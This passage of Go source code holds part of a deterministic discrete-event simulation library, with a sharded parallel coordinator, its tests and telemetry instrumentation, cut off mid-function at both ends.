		e.fn()
		return true
	}
	return false
}

// Run executes events until the queue is empty or Stop is called.
// It returns the number of events executed.
func (s *Sim) Run() uint64 {
	return s.RunUntil(1<<62 - 1)
}

// RunUntil executes events with time <= deadline, then advances the clock
// to deadline (if the simulation got that far without emptying early it
// still advances, so repeated RunUntil calls form contiguous windows).
// It returns the number of events executed during this call.
func (s *Sim) RunUntil(deadline Time) uint64 {
	if s.running {
		panic("simtime: RunUntil re-entered from inside an event handler")
	}
	s.running = true
	s.stopped = false
	defer func() { s.running = false }()

	var n uint64
	for len(s.pending) > 0 && !s.stopped {
		next := s.pending[0]
		if next.dead {
			heap.Pop(&s.pending)
			continue
		}
		if next.at > deadline {
			break
		}
		heap.Pop(&s.pending)
		s.now = next.at
		s.processed++
		next.fn()
		n++
	}
	if !s.stopped && s.now < deadline && deadline < 1<<62-1 {
		s.now = deadline
	}
	return n
}

// Stop halts the currently running Run/RunUntil after the current event
// handler returns. It may only be called from inside an event handler.
func (s *Sim) Stop() { s.stopped = true }

// Stream returns the named deterministic random stream, creating it on
// first use. Distinct names give independent streams; the same (seed, name)
// pair always yields the same sequence, so adding a new consumer of
// randomness does not perturb existing ones.
func (s *Sim) Stream(name string) *rand.Rand {
	r, ok := s.streams[name]
	if !ok {
		r = rand.New(rand.NewSource(s.seed ^ hashName(name)))
		s.streams[name] = r
	}
	return r
}

// hashName is FNV-1a, inlined to avoid importing hash/fnv for eight lines.
func hashName(name string) int64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	var h uint64 = offset64
	for i := 0; i < len(name); i++ {
		h ^= uint64(name[i])
		h *= prime64
	}
	return int64(h)
}

// Ticker repeatedly schedules a handler at a fixed virtual-time period
// until stopped. Unlike time.Ticker it is driven entirely by the Sim.
type Ticker struct {
	sim    *Sim
	period Time
	fn     Handler
	id     EventID
	live   bool
}

// NewTicker starts a ticker whose first tick fires one period from now.
// period must be positive.
func (s *Sim) NewTicker(period Time, fn Handler) (*Ticker, error) {
	if period <= 0 {
		return nil, fmt.Errorf("simtime: ticker period %v must be positive", period)
	}
	t := &Ticker{sim: s, period: period, fn: fn, live: true}
	t.arm()
	return t, nil
}

func (t *Ticker) arm() {
	t.id = t.sim.MustSchedule(t.period, func() {
		if !t.live {
			return
		}
		t.fn()
		if t.live {
			t.arm()
		}
	})
}

// Stop prevents future ticks. It is idempotent.
func (t *Ticker) Stop() {
	if !t.live {
		return
	}
	t.live = false
	t.sim.Cancel(t.id)
}
