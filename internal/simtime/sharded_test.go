package simtime

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"repro/internal/obs"
)

// --- satellite: O(1) Pending + NextEventTime ---

func TestPendingIsLiveCounter(t *testing.T) {
	s := New(1)
	if s.Pending() != 0 {
		t.Fatalf("fresh sim Pending = %d, want 0", s.Pending())
	}
	ids := make([]EventID, 0, 5)
	for i := 0; i < 5; i++ {
		ids = append(ids, s.MustSchedule(Time(i+1)*100, func() {}))
	}
	if s.Pending() != 5 {
		t.Fatalf("after 5 schedules Pending = %d, want 5", s.Pending())
	}
	s.Cancel(ids[2])
	if s.Pending() != 4 {
		t.Fatalf("after cancel Pending = %d, want 4", s.Pending())
	}
	s.Step()
	if s.Pending() != 3 {
		t.Fatalf("after step Pending = %d, want 3", s.Pending())
	}
	s.Run()
	if s.Pending() != 0 {
		t.Fatalf("after Run Pending = %d, want 0", s.Pending())
	}
	// Step over a cancelled head must not double-decrement.
	id := s.MustSchedule(10, func() {})
	s.MustSchedule(20, func() {})
	s.Cancel(id)
	s.Step()
	if s.Pending() != 0 {
		t.Fatalf("after step over cancelled head Pending = %d, want 0", s.Pending())
	}
}

func TestNextEventTimeSkipsCancelled(t *testing.T) {
	s := New(1)
	if _, ok := s.NextEventTime(); ok {
		t.Fatal("empty sim reported a next event")
	}
	id := s.MustSchedule(10, func() {})
	s.MustSchedule(30, func() {})
	if at, ok := s.NextEventTime(); !ok || at != 10 {
		t.Fatalf("NextEventTime = %v,%v want 10,true", at, ok)
	}
	s.Cancel(id)
	if at, ok := s.NextEventTime(); !ok || at != 30 {
		t.Fatalf("after cancelling head NextEventTime = %v,%v want 30,true", at, ok)
	}
	s.Run()
	if _, ok := s.NextEventTime(); ok {
		t.Fatal("drained sim reported a next event")
	}
}

// --- satellite: per-call interrupt stride ---

// TestInterruptChecksPerCall pins the bounded-per-call cancellation
// latency: every RunUntil call consults the interrupt on entry, so a
// windowed run resumed mid-stride cannot inherit a nearly-elapsed
// stride from the previous window.
func TestInterruptChecksPerCall(t *testing.T) {
	s := New(1)
	// Burn most of a stride in one call.
	for i := 0; i < interruptStride-1; i++ {
		s.MustSchedule(Time(i+1), func() {})
	}
	checks := 0
	s.SetInterrupt(func() error { checks++; return nil })
	s.RunUntil(Time(interruptStride))
	if checks != 1 {
		t.Fatalf("first call made %d checks, want 1", checks)
	}
	// The next call must check immediately even though the lifetime
	// event count is mid-stride.
	stop := errors.New("stop")
	s.SetInterrupt(func() error { checks++; return stop })
	s.MustSchedule(s.Now()+1, func() { t.Fatal("event ran after interrupt") })
	if n := s.RunUntil(s.Now() + 10); n != 0 {
		t.Fatalf("interrupted call executed %d events, want 0", n)
	}
	if checks != 2 {
		t.Fatalf("second call made %d total checks, want 2 (one on entry)", checks)
	}
	if !errors.Is(s.Interrupted(), stop) {
		t.Fatalf("Interrupted = %v, want %v", s.Interrupted(), stop)
	}
}

// --- ShardedSim coordinator ---

// buildPingPong wires d domains where every domain schedules local work
// and periodically posts cross-domain echoes, recording a global trace
// of (domain, time, tag) tuples through a shared (coordinator-ordered)
// log. Deterministic for any executor count iff the coordinator's merge
// rule is a strict total order.
func buildPingPong(t *testing.T, domains int, lookahead Time, horizon Time) (*ShardedSim, *[]string) {
	t.Helper()
	ss, err := NewSharded(42, domains)
	if err != nil {
		t.Fatal(err)
	}
	if err := ss.SetLookahead(lookahead); err != nil {
		t.Fatal(err)
	}
	log := &[]string{}
	for i := 0; i < domains; i++ {
		i := i
		sim := ss.Domain(i)
		rng := sim.Stream(fmt.Sprintf("pp.%d", i))
		var tick func()
		tick = func() {
			now := sim.Now()
			*log = append(*log, fmt.Sprintf("d%d t%d local r%d", i, now, rng.Intn(1000)))
			// Echo into a pseudo-random neighbour, respecting lookahead.
			dst := (i + 1 + rng.Intn(domains-1)) % domains
			at := now + lookahead + Time(rng.Intn(3000))
			if at <= horizon {
				ss.Post(i, dst, at, func() {
					*log = append(*log, fmt.Sprintf("d%d t%d recv-from-d%d", dst, ss.Domain(dst).Now(), i))
				})
			}
			if next := now + 700 + Time(rng.Intn(900)); next <= horizon {
				sim.MustSchedule(next-now, tick)
			}
		}
		sim.MustSchedule(Time(50*(i+1)), tick)
	}
	return ss, log
}

// Appending to the shared log from executor goroutines would race; the
// ping-pong model is therefore only run with Workers(1) when the log is
// live. For worker>1 runs we use a per-domain digest instead.
func buildDigestPingPong(t *testing.T, domains int, lookahead, horizon Time, seed int64) (*ShardedSim, []*uint64) {
	t.Helper()
	ss, err := NewSharded(seed, domains)
	if err != nil {
		t.Fatal(err)
	}
	if err := ss.SetLookahead(lookahead); err != nil {
		t.Fatal(err)
	}
	digests := make([]*uint64, domains)
	for i := 0; i < domains; i++ {
		i := i
		digests[i] = new(uint64)
		sim := ss.Domain(i)
		rng := sim.Stream(fmt.Sprintf("pp.%d", i))
		mix := func(v uint64) {
			h := *digests[i]
			h = (h ^ v) * 0x9e3779b97f4a7c15
			h ^= h >> 29
			*digests[i] = h
		}
		var tick func()
		tick = func() {
			now := sim.Now()
			mix(uint64(now))
			mix(uint64(rng.Intn(1 << 20)))
			dst := (i + 1 + rng.Intn(domains-1)) % domains
			at := now + lookahead + Time(rng.Intn(3000))
			if at <= horizon {
				src := i
				ss.Post(i, dst, at, func() {
					h := *digests[dst]
					h = (h ^ uint64(ss.Domain(dst).Now()) ^ uint64(src)<<40) * 0x9e3779b97f4a7c15
					*digests[dst] = h
				})
			}
			if next := now + 700 + Time(rng.Intn(900)); next <= horizon {
				sim.MustSchedule(next-now, tick)
			}
		}
		sim.MustSchedule(Time(50*(i+1)), tick)
	}
	return ss, digests
}

func TestShardedDeterministicAcrossWorkerCounts(t *testing.T) {
	const domains = 5
	const lookahead = Time(1000)
	const horizon = Time(400_000)
	run := func(workers int) []uint64 {
		ss, digests := buildDigestPingPong(t, domains, lookahead, horizon, 7)
		defer ss.Close()
		ss.SetWorkers(workers)
		ss.Run()
		out := make([]uint64, domains)
		for i, d := range digests {
			out[i] = *d
		}
		return out
	}
	want := run(1)
	for _, w := range []int{2, 4, 8} {
		got := run(w)
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("workers=%d domain %d digest %x != serial %x", w, i, got[i], want[i])
			}
		}
	}
}

func TestShardedMatchesTraceOrder(t *testing.T) {
	// Serial (workers=1) run with a full trace: verify cross-domain
	// receives are interleaved in global time order per domain and that
	// a re-run reproduces the trace exactly.
	ss, log := buildPingPong(t, 4, 1500, 200_000)
	defer ss.Close()
	ss.Run()
	first := strings.Join(*log, "\n")
	if len(*log) == 0 {
		t.Fatal("trace empty")
	}
	ss2, log2 := buildPingPong(t, 4, 1500, 200_000)
	defer ss2.Close()
	ss2.Run()
	if second := strings.Join(*log2, "\n"); second != first {
		t.Fatal("re-run trace differs")
	}
}

func TestShardedRunUntilWindowsAndClock(t *testing.T) {
	ss, _ := buildDigestPingPong(t, 3, 1000, 50_000, 9)
	defer ss.Close()
	n1 := ss.RunUntil(25_000)
	if ss.Now() != 25_000 {
		t.Fatalf("Now = %v after RunUntil(25000)", ss.Now())
	}
	for i := 0; i < ss.Domains(); i++ {
		if got := ss.Domain(i).Now(); got != 25_000 {
			t.Fatalf("domain %d clock %v, want 25000", i, got)
		}
	}
	n2 := ss.RunUntil(maxTime)
	if n1 == 0 || n2 == 0 {
		t.Fatalf("expected events in both halves, got %d then %d", n1, n2)
	}
	// Split run equals whole run.
	ssW, _ := buildDigestPingPong(t, 3, 1000, 50_000, 9)
	defer ssW.Close()
	if whole := ssW.Run(); whole != n1+n2 {
		t.Fatalf("split run executed %d events, whole run %d", n1+n2, whole)
	}
	if ss.Windows() == 0 || ss.CrossPosted() == 0 {
		t.Fatalf("windows=%d crossPosted=%d, want both > 0", ss.Windows(), ss.CrossPosted())
	}
	if ss.Processed() != n1+n2 {
		t.Fatalf("Processed = %d, want %d", ss.Processed(), n1+n2)
	}
}

func TestShardedPostLookaheadViolationPanics(t *testing.T) {
	ss, err := NewSharded(1, 2)
	if err != nil {
		t.Fatal(err)
	}
	defer ss.Close()
	if err := ss.SetLookahead(1000); err != nil {
		t.Fatal(err)
	}
	defer func() {
		r := recover()
		if r == nil {
			t.Fatal("lookahead-violating Post did not panic")
		}
		if !strings.Contains(fmt.Sprint(r), "violates lookahead") {
			t.Fatalf("panic message %q lacks lookahead diagnosis", r)
		}
	}()
	ss.Post(0, 1, 999, func() {})
}

func TestShardedZeroLookaheadRejected(t *testing.T) {
	ss, err := NewSharded(1, 2)
	if err != nil {
		t.Fatal(err)
	}
	defer ss.Close()
	if err := ss.SetLookahead(0); err == nil {
		t.Fatal("SetLookahead(0) accepted")
	}
	if err := ss.SetLookahead(-5); err == nil {
		t.Fatal("SetLookahead(-5) accepted")
	}
	defer func() {
		if recover() == nil {
			t.Fatal("RunUntil without lookahead did not panic")
		}
	}()
	ss.Domain(0).MustSchedule(10, func() {})
	ss.Run()
}

func TestShardedSingleDomainFastPath(t *testing.T) {
	ss, err := NewSharded(3, 1)
	if err != nil {
		t.Fatal(err)
	}
	defer ss.Close()
	// No lookahead needed with one domain.
	ran := 0
	ss.Domain(0).MustSchedule(10, func() { ran++ })
	ss.Domain(0).MustSchedule(20, func() { ran++ })
	if n := ss.RunUntil(15); n != 1 || ran != 1 {
		t.Fatalf("RunUntil(15) = %d events (ran %d), want 1", n, ran)
	}
	if ss.Now() != 15 {
		t.Fatalf("Now = %v, want 15", ss.Now())
	}
	if n := ss.Run(); n != 1 || ran != 2 {
		t.Fatalf("Run = %d events (ran %d), want 1 more", n, ran)
	}
}

func TestShardedIdleFastForward(t *testing.T) {
	// Two distant event clusters: the window loop must jump the gap
	// rather than grinding empty lookahead windows across it.
	ss, err := NewSharded(1, 2)
	if err != nil {
		t.Fatal(err)
	}
	defer ss.Close()
	if err := ss.SetLookahead(10); err != nil {
		t.Fatal(err)
	}
	ss.Domain(0).MustSchedule(5, func() {})
	ss.Domain(1).MustSchedule(1_000_000_005, func() {})
	ss.Run()
	if w := ss.Windows(); w > 4 {
		t.Fatalf("idle gap cost %d windows, want <= 4", w)
	}
}

func TestShardedInterrupt(t *testing.T) {
	ss, _ := buildDigestPingPong(t, 3, 1000, 500_000, 11)
	defer ss.Close()
	stop := errors.New("cancelled")
	var calls int
	ss.SetInterrupt(func() error {
		calls++
		if calls > 3 {
			return stop
		}
		return nil
	})
	ss.Run()
	if !errors.Is(ss.Interrupted(), stop) {
		t.Fatalf("Interrupted = %v, want %v", ss.Interrupted(), stop)
	}
}

func TestShardedInstrument(t *testing.T) {
	reg := obs.NewRegistry()
	ss, _ := buildDigestPingPong(t, 3, 1000, 100_000, 5)
	defer ss.Close()
	ss.Instrument(reg)
	ss.SetWorkers(3)
	ss.Run()
	snap := reg.Snapshot()
	var sawEvents, sawWindows, sawCross bool
	var eventsTotal uint64
	for _, m := range snap.Counters {
		switch {
		case strings.HasPrefix(m.Name, "simtime.shard.d") && strings.HasSuffix(m.Name, ".events"):
			sawEvents = true
			eventsTotal += m.Value
		case m.Name == "simtime.shard.windows":
			sawWindows = m.Value > 0
		case m.Name == "simtime.shard.cross_msgs":
			sawCross = m.Value > 0
		}
	}
	if !sawEvents || !sawWindows || !sawCross {
		t.Fatalf("missing instruments: events=%v windows=%v cross=%v", sawEvents, sawWindows, sawCross)
	}
	if eventsTotal != ss.Processed() {
		t.Fatalf("per-domain event counters sum %d, Processed %d", eventsTotal, ss.Processed())
	}
}

func TestShardedWorkerPoolStallHistogram(t *testing.T) {
	reg := obs.NewRegistry()
	ss, _ := buildDigestPingPong(t, 4, 1000, 150_000, 13)
	defer ss.Close()
	ss.Instrument(reg)
	ss.SetWorkers(4)
	start := time.Now()
	ss.Run()
	if time.Since(start) > 30*time.Second {
		t.Fatal("sharded run wedged")
	}
	snap := reg.Snapshot()
	found := false
	for _, h := range snap.Hists {
		if h.Name == "simtime.shard.barrier_stall_ns" && h.Count > 0 {
			found = true
		}
	}
	if !found {
		t.Fatal("barrier stall histogram empty after parallel run")
	}
}

// TestShardedAttribution pins the per-domain wall-clock attribution
// surface: events/windows totals must reconcile exactly with the
// deterministic counters, the busy/blocked/idle gauges and occupancy
// histogram must materialize, and the flight recorder must carry the
// window timeline.
func TestShardedAttribution(t *testing.T) {
	const domains = 4
	reg := obs.NewRegistry()
	flight := reg.EnableFlight(1 << 12)
	ss, _ := buildDigestPingPong(t, domains, 1000, 150_000, 21)
	defer ss.Close()
	ss.Instrument(reg)
	ss.SetWorkers(domains)
	ss.Run()

	attr := ss.Attribution()
	if len(attr) != domains {
		t.Fatalf("attribution entries = %d, want %d", len(attr), domains)
	}
	var events uint64
	for i, a := range attr {
		if a.Domain != i {
			t.Fatalf("attribution[%d].Domain = %d", i, a.Domain)
		}
		if a.Windows != ss.Windows() {
			t.Fatalf("d%d windows = %d, coordinator ran %d", i, a.Windows, ss.Windows())
		}
		events += a.Events
	}
	if events != ss.Processed() {
		t.Fatalf("attribution events sum %d, Processed %d", events, ss.Processed())
	}

	snap := reg.Snapshot()
	for _, name := range []string{
		"simtime.shard.d00.busy_ns", "simtime.shard.d00.blocked_ns",
		"simtime.shard.d00.idle_ns", "simtime.shard.now_ns",
		fmt.Sprintf("simtime.shard.d%02d.busy_ns", domains-1),
	} {
		if _, ok := snap.Gauge(name); !ok {
			t.Errorf("gauge %s missing from snapshot", name)
		}
	}
	if g, _ := snap.Gauge("simtime.shard.now_ns"); g.Value <= 0 {
		t.Errorf("live sim clock gauge = %d, want > 0", g.Value)
	}
	occ := snap.Hist("simtime.shard.window_events")
	if occ == nil || occ.Count != uint64(domains)*ss.Windows() {
		t.Fatalf("occupancy histogram count = %+v, want %d samples", occ, uint64(domains)*ss.Windows())
	}

	var windows, waits uint64
	var flightEvents uint64
	for _, e := range flight.Events() {
		switch e.Kind {
		case obs.FlightWindow:
			windows++
			flightEvents += uint64(e.Arg)
			if e.Dom < 0 || int(e.Dom) >= domains {
				t.Fatalf("window event on bogus domain %d", e.Dom)
			}
			if e.Sim < 0 {
				t.Fatalf("window event missing sim time")
			}
		case obs.FlightBarrierWait:
			waits++
		}
	}
	if windows == 0 {
		t.Fatal("no window events in the flight recorder")
	}
	if flight.Dropped() == 0 && flightEvents != ss.Processed() {
		t.Fatalf("flight window events account for %d events, Processed %d", flightEvents, ss.Processed())
	}
	_ = waits // stalls may legitimately round to zero on a fast box
}

// TestShardedAttributionOffByDefault pins the zero-cost contract: an
// uninstrumented coordinator tracks nothing.
func TestShardedAttributionOffByDefault(t *testing.T) {
	ss, _ := buildDigestPingPong(t, 3, 1000, 50_000, 7)
	defer ss.Close()
	ss.Run()
	if ss.Attribution() != nil {
		t.Fatal("attribution tracked without Instrument")
	}
}

// TestShardedInstrumentedRunIsByteIdentical extends the determinism
// contract to the full observability plane: the same model with
// attribution + flight recording on, run parallel, digests identically
// to the bare serial run.
func TestShardedInstrumentedRunIsByteIdentical(t *testing.T) {
	const domains, lookahead, horizon, seed = 5, Time(1000), Time(200_000), int64(99)
	bare, bareDig := buildDigestPingPong(t, domains, lookahead, horizon, seed)
	defer bare.Close()
	bare.Run()

	reg := obs.NewRegistry()
	reg.EnableFlight(1 << 12)
	inst, instDig := buildDigestPingPong(t, domains, lookahead, horizon, seed)
	defer inst.Close()
	inst.Instrument(reg)
	inst.SetWorkers(domains)
	inst.Run()

	for i := range bareDig {
		if *bareDig[i] != *instDig[i] {
			t.Fatalf("domain %d digest differs with observability on: %x vs %x", i, *bareDig[i], *instDig[i])
		}
	}
	if bare.Processed() != inst.Processed() || bare.Windows() != inst.Windows() {
		t.Fatalf("processed/windows differ: %d/%d vs %d/%d",
			bare.Processed(), bare.Windows(), inst.Processed(), inst.Windows())
	}
}
