// Conservative parallel discrete-event simulation: one large topology
// partitioned into fixed event domains, each owning its own Sim, advanced
// in lockstep lookahead windows by a configurable number of executor
// goroutines.
//
// The design splits two concerns that are usually conflated:
//
//   - The DOMAIN STRUCTURE — how many domains exist and which model
//     component lives in which — is fixed by the topology (one domain per
//     leaf-switch segment, border/external infrastructure in domain 0).
//     It never varies with core count.
//
//   - The EXECUTOR COUNT — how many goroutines run those domains inside a
//     window — is a pure throughput knob (the -shards flag).
//
// Because the computation (window boundaries, per-domain event order,
// cross-domain message merge order) is identical for every executor
// count, a multi-shard run is byte-identical to the single-shard run at
// the same seed by construction, not by luck. This is the same bit-
// identity contract internal/par gives the evaluation matrix, applied
// inside one simulation.
//
// Synchronization is conservative and null-message-free: all domains run
// RunUntil(windowEnd-1), then cross-domain deliveries are exchanged at a
// barrier, then the window advances. The window length is the lookahead —
// the minimum cross-domain link propagation delay — so a message sent at
// time t >= windowStart arrives at t + delay >= windowStart + lookahead =
// windowEnd: never inside the window that produced it. No domain can
// therefore ever receive an event in its past, and no null messages or
// rollbacks are needed.
package simtime

import (
	"fmt"
	"sort"
	"time"

	"repro/internal/obs"
)

// maxTime is the sentinel deadline meaning "run to completion".
const maxTime Time = 1<<62 - 1

// shardMsg is one cross-domain delivery waiting at the barrier.
type shardMsg struct {
	at   Time   // delivery time in the destination domain
	sent Time   // virtual time Post was called (merge tie-break)
	src  int    // source domain (merge tie-break)
	idx  uint64 // per-(src,dst) send ordinal (final tie-break; unique)
	fn   func()
}

// ShardedSim coordinates a fixed set of event domains. Create one with
// NewSharded, wire a model whose cross-domain interactions all go
// through Post (netsim's Fabric does this at Link boundaries), set the
// lookahead, and drive it with Run/RunUntil like a plain Sim.
//
// The coordinator itself is single-threaded: all methods must be called
// from one goroutine (the one that owns the simulation), and model
// handlers run either on that goroutine (Workers <= 1) or on the
// executor pool (each domain on exactly one goroutine per window, with
// channel-synchronized handoffs, so domain state needs no locks).
type ShardedSim struct {
	domains   []*Sim
	seed      int64
	lookahead Time
	now       Time // start of the next window (global committed time)
	workers   int

	// mail[src][dst] buffers outbound messages during a window; src's
	// executor appends, the coordinator drains at the barrier.
	mail    [][][]shardMsg
	mailIdx [][]uint64 // per-pair send ordinals
	posted  uint64
	windows uint64
	merged  []shardMsg // reusable merge scratch

	// Executor pool (lazy; only exists when workers > 1). Each slot of
	// windowCounts/started/finished is written only by the executor
	// running that domain and read by the coordinator after the ack
	// barrier.
	jobs         chan int
	acks         chan int
	target       Time // window deadline for pool workers
	windowCounts []uint64
	started      []time.Time
	finished     []time.Time
	closed       bool

	// Telemetry (nil = free no-ops).
	cEvents  []*obs.Counter
	cWindows *obs.Counter
	cPosted  *obs.Counter
	hStall   *obs.Histogram

	// Per-domain wall-clock attribution (nil = tracking off, zero cost on
	// the window loop). attrib accumulates; the gauges mirror it after
	// every window so a live /metrics scrape sees current totals.
	attrib     []DomainAttribution
	runStart   time.Time
	gBusy      []*obs.Gauge
	gBlocked   []*obs.Gauge
	gIdle      []*obs.Gauge
	gNow       *obs.Gauge
	hOccupancy *obs.Histogram
	flight     *obs.FlightRecorder
}

// DomainAttribution is one domain's accumulated wall-clock profile:
// Busy is time spent executing its events, Blocked is time idled at the
// window barrier waiting for the slowest domain (parallel executors
// only). Both are wall-clock measurements of the harness — they steer
// lookahead and partition tuning, never simulation results.
type DomainAttribution struct {
	Domain  int
	Events  uint64
	Windows uint64
	Busy    time.Duration
	Blocked time.Duration
}

// NewSharded creates a coordinator with the given number of event
// domains, each a fresh Sim seeded identically — named random streams
// deliver the same sequences they would on a lone Sim, so a model
// component draws identical randomness wherever its domain lives.
func NewSharded(seed int64, domains int) (*ShardedSim, error) {
	if domains < 1 {
		return nil, fmt.Errorf("simtime: sharded sim needs >= 1 domain, got %d", domains)
	}
	ss := &ShardedSim{seed: seed, workers: 1}
	for i := 0; i < domains; i++ {
		ss.domains = append(ss.domains, New(seed))
	}
	ss.mail = make([][][]shardMsg, domains)
	ss.mailIdx = make([][]uint64, domains)
	for i := range ss.mail {
		ss.mail[i] = make([][]shardMsg, domains)
		ss.mailIdx[i] = make([]uint64, domains)
	}
	ss.started = make([]time.Time, domains)
	ss.finished = make([]time.Time, domains)
	// Nil *obs.Counter entries are free no-ops (obs instruments are
	// nil-safe), so the hot paths never branch on "instrumented?".
	ss.cEvents = make([]*obs.Counter, domains)
	return ss, nil
}

// Domains returns the fixed domain count.
func (ss *ShardedSim) Domains() int { return len(ss.domains) }

// Domain returns domain i's Sim. Model components scheduled on it must
// touch only state owned by domain i.
func (ss *ShardedSim) Domain(i int) *Sim { return ss.domains[i] }

// Seed returns the root seed shared by every domain.
func (ss *ShardedSim) Seed() int64 { return ss.seed }

// Now returns the global committed time: every event before it has
// executed, in every domain.
func (ss *ShardedSim) Now() Time { return ss.now }

// Lookahead returns the conservative window length.
func (ss *ShardedSim) Lookahead() Time { return ss.lookahead }

// Windows returns how many synchronization windows have run.
func (ss *ShardedSim) Windows() uint64 { return ss.windows }

// CrossPosted returns how many cross-domain messages have been posted.
func (ss *ShardedSim) CrossPosted() uint64 { return ss.posted }

// Processed sums executed events across domains.
func (ss *ShardedSim) Processed() uint64 {
	var n uint64
	for _, d := range ss.domains {
		n += d.Processed()
	}
	return n
}

// SetLookahead fixes the window length. It must be positive: a zero
// lookahead means a cross-domain link with zero propagation delay, which
// gives conservative synchronization no safe window at all. netsim's
// Fabric derives it as the minimum cross-domain link propagation.
func (ss *ShardedSim) SetLookahead(d Time) error {
	if d <= 0 {
		return fmt.Errorf("simtime: lookahead %v must be positive (a zero-delay cross-domain edge admits no conservative window)", d)
	}
	ss.lookahead = d
	return nil
}

// SetWorkers bounds how many executor goroutines advance domains inside
// a window. 1 (the default) runs every domain on the caller's goroutine;
// values above the domain count are clamped. The setting has no effect
// on results — only on wall-clock.
func (ss *ShardedSim) SetWorkers(n int) {
	if n < 1 {
		n = 1
	}
	if n > len(ss.domains) {
		n = len(ss.domains)
	}
	ss.workers = n
}

// occupancyBounds is the power-of-two ladder for the window-occupancy
// histogram (events one domain executed in one window): 1, 2, 4, ...,
// 1Mi. Occupancy is a count, not a duration, so the default duration
// ladder would misbin it.
var occupancyBounds = func() []int64 {
	b := make([]int64, 21)
	for i := range b {
		b[i] = 1 << i
	}
	return b
}()

// Instrument registers per-domain executed-event counters, a window
// counter, a cross-message counter, and the barrier-stall histogram
// (wall time each domain spends waiting at the barrier for the window's
// slowest domain; recorded only when executors run in parallel) under
// "simtime.shard.". It also switches on per-domain wall-clock
// attribution: busy/blocked/idle gauges per domain, a window-occupancy
// histogram (events per domain-window), the live sim clock gauge
// simtime.shard.now_ns, and — when reg has a flight recorder — window
// and barrier-wait timeline events. Telemetry observes and never
// perturbs — instruments are atomic and touch no simulation state, so
// results are byte-identical with instrumentation on or off.
func (ss *ShardedSim) Instrument(reg *obs.Registry) {
	if reg == nil {
		return
	}
	ss.cEvents = make([]*obs.Counter, len(ss.domains))
	ss.gBusy = make([]*obs.Gauge, len(ss.domains))
	ss.gBlocked = make([]*obs.Gauge, len(ss.domains))
	ss.gIdle = make([]*obs.Gauge, len(ss.domains))
	for i := range ss.domains {
		ss.cEvents[i] = reg.Counter(fmt.Sprintf("simtime.shard.d%02d.events", i))
		ss.gBusy[i] = reg.Gauge(fmt.Sprintf("simtime.shard.d%02d.busy_ns", i))
		ss.gBlocked[i] = reg.Gauge(fmt.Sprintf("simtime.shard.d%02d.blocked_ns", i))
		ss.gIdle[i] = reg.Gauge(fmt.Sprintf("simtime.shard.d%02d.idle_ns", i))
	}
	ss.cWindows = reg.Counter("simtime.shard.windows")
	ss.cPosted = reg.Counter("simtime.shard.cross_msgs")
	ss.hStall = reg.Histogram("simtime.shard.barrier_stall_ns", obs.ClockWall)
	ss.hOccupancy = reg.HistogramWithBounds("simtime.shard.window_events", obs.ClockNone, occupancyBounds)
	ss.gNow = reg.Gauge("simtime.shard.now_ns")
	ss.flight = reg.Flight()
	ss.attrib = make([]DomainAttribution, len(ss.domains))
	for i := range ss.attrib {
		ss.attrib[i].Domain = i
	}
}

// Attribution returns a copy of the per-domain wall-clock profile
// accumulated since Instrument. Nil when the coordinator is not
// instrumented — attribution costs two clock reads per domain-window,
// so the uninstrumented window loop stays clock-free.
func (ss *ShardedSim) Attribution() []DomainAttribution {
	if ss.attrib == nil {
		return nil
	}
	out := make([]DomainAttribution, len(ss.attrib))
	copy(out, ss.attrib)
	return out
}

// publishAttribution mirrors the accumulated attribution into the live
// gauges after a window: idle is everything since the run's first
// window that was neither executing events nor blocked at the barrier.
func (ss *ShardedSim) publishAttribution() {
	elapsed := time.Since(ss.runStart)
	for i := range ss.attrib {
		a := &ss.attrib[i]
		ss.gBusy[i].Set(int64(a.Busy))
		ss.gBlocked[i].Set(int64(a.Blocked))
		idle := elapsed - a.Busy - a.Blocked
		if idle < 0 {
			idle = 0
		}
		ss.gIdle[i].Set(int64(idle))
	}
}

// SetInterrupt installs the cancellation check on every domain (see
// Sim.SetInterrupt). The check may run on executor goroutines and must
// be goroutine-safe.
func (ss *ShardedSim) SetInterrupt(check func() error) {
	for _, d := range ss.domains {
		d.SetInterrupt(check)
	}
}

// Interrupted returns the first domain's interrupt error (lowest domain
// index wins, deterministically), or nil.
func (ss *ShardedSim) Interrupted() error {
	for _, d := range ss.domains {
		if err := d.Interrupted(); err != nil {
			return err
		}
	}
	return nil
}

// Post enqueues a cross-domain delivery: fn runs in domain dst at time
// at. It must be called from domain src's executing context (its send
// time is src's current virtual time), and at must respect the
// lookahead contract at >= now(src) + lookahead — netsim guarantees this
// by construction because cross-domain handoff happens only at Link
// boundaries whose propagation delay is at least the lookahead. A
// violation is a wiring bug and panics.
func (ss *ShardedSim) Post(src, dst int, at Time, fn func()) {
	sent := ss.domains[src].Now()
	if at < sent+ss.lookahead {
		panic(fmt.Sprintf("simtime: cross-domain post d%d->d%d at %v violates lookahead (sent %v + lookahead %v)",
			src, dst, at, sent, ss.lookahead))
	}
	ss.mail[src][dst] = append(ss.mail[src][dst], shardMsg{
		at: at, sent: sent, src: src, idx: ss.mailIdx[src][dst], fn: fn,
	})
	ss.mailIdx[src][dst]++
}

// nextEventTime returns the earliest live event time across domains.
func (ss *ShardedSim) nextEventTime() (Time, bool) {
	var best Time
	ok := false
	for _, d := range ss.domains {
		if at, has := d.NextEventTime(); has && (!ok || at < best) {
			best, ok = at, true
		}
	}
	return best, ok
}

// Run executes events until every domain's queue is empty. It returns
// the number of events executed during this call.
func (ss *ShardedSim) Run() uint64 { return ss.RunUntil(maxTime) }

// RunUntil executes events with time <= deadline in every domain, then
// advances the global clock (and every domain clock) to deadline, so
// repeated calls form contiguous windows exactly like Sim.RunUntil. It
// returns the number of events executed during this call.
func (ss *ShardedSim) RunUntil(deadline Time) uint64 {
	if len(ss.domains) == 1 {
		// One domain is a plain simulation; no windows, no barriers.
		n := ss.domains[0].RunUntil(deadline)
		ss.now = ss.domains[0].Now()
		ss.gNow.Set(int64(ss.now))
		return n
	}
	if ss.lookahead <= 0 {
		panic("simtime: ShardedSim.RunUntil before SetLookahead (wire cross-domain links through a Fabric and finalize it)")
	}
	var n uint64
	for ss.Interrupted() == nil {
		// Mailboxes are always drained between windows, so all pending
		// work lives in domain heaps: idle gaps can be skipped exactly.
		next, ok := ss.nextEventTime()
		if !ok || next > deadline {
			break
		}
		if next > ss.now {
			ss.now = next
		}
		runTo := ss.now + ss.lookahead - 1 // window [now, now+lookahead)
		if runTo > deadline {
			runTo = deadline
		}
